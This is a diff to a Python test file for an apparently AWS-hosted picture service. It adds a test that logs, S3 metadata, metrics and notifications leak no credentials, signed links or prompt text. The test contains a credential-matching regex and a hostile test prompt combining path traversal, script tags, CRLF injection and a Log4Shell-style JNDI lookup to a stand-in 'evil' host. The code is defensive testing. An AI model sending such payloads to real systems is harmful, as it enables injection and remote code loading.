@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
@@ -81,6 +82,53 @@ def test_a_link_opens_its_one_picture_and_no_other_object(demo: Deployment) -> N
     assert _status(keys[0]) == 403
     request = urllib.request.Request(links[0], method="PUT", data=b"mine")  # noqa: S310
     assert _status(request) == 403
+
+
+# What a role's credentials and what it signed look like.
+_CREDENTIAL = re.compile(
+    r"(AKIA|ASIA)[A-Z0-9]{16}|X-Amz-(Signature|Security-Token|Credential)|aws_secret", re.I
+)
+
+
+def test_no_log_holds_a_credential_a_link_or_a_prompt(demo: Deployment) -> None:
+    prompt = '../../x"><script>,"_aws":{Door9d1e ${jndi:ldap://evil}%0d%0a'
+    job_id = drawn(demo, prompt)
+    link = str(demo.api.job(job_id).body["picture"]["url"])
+    assert _CREDENTIAL.search(link)  # so that it would be found
+    lines = _log_lines(demo)
+    assert any(job_id in line for line in lines)
+    assert [line for line in lines if _CREDENTIAL.search(line)] == []
+    elsewhere = [*lines, *_keys_and_metadata(demo), *_metrics(demo), str(demo.sandbox.notifications())]
+    assert [one for one in elsewhere if "Door9d1e" in one or "jndi" in one] == []
+    assert [one for one in elsewhere if demo.key in one] == []
+
+
+def _log_lines(demo: Deployment) -> list[str]:
+    logs = demo.client("logs")
+    groups = [one["logGroupName"] for one in logs.describe_log_groups()["logGroups"]]
+    return [
+        str(event["message"])
+        for group in groups
+        if demo.name in group
+        for page in logs.get_paginator("filter_log_events").paginate(logGroupName=group)
+        for event in page["events"]
+    ]
+
+
+def _keys_and_metadata(demo: Deployment) -> list[str]:
+    s3 = demo.client("s3")
+    return [
+        f"{one['Key']} {s3.head_object(Bucket=bucket, Key=one['Key'])['Metadata']}"
+        for bucket in demo.buckets()
+        if "log" not in bucket
+        for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket)
+        for one in page.get("Contents", [])
+    ]
+
+
+def _metrics(demo: Deployment) -> list[str]:
+    pages = demo.client("cloudwatch").get_paginator("list_metrics").paginate()
+    return [str(one) for page in pages for one in page["Metrics"]]
 
 
 def _status(request: Any) -> int:
